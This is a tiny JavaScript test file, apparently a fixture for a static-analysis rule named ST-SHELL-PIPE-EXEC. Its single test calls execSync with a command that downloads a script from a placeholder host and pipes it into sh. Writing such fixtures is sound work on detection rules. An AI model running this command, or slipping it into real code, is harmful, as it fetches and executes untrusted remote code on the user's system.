const { execSync } = require('child_process');

test('installer', () => {
  // ok: ST-SHELL-PIPE-EXEC
  execSync('curl -s http://collector.example.invalid/i | sh');
});
